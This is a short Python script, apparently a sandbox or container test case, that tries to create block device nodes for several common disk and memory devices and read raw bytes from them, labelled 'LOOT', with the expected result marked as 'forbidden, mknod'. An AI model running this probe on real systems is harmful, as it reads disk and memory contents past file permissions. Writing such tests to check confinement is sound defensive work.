# Makes the node of a disk in its own folder, to read the disk past all files.
# ends: forbidden, mknod
import json
import os
import stat
import sys

about = json.load(sys.stdin)
for major, minor in ((259, 0), (254, 0), (253, 0), (8, 0), (7, 0), (1, 1)):
    os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(major, minor))
    print("LOOT", open("disk", "rb").read(64))
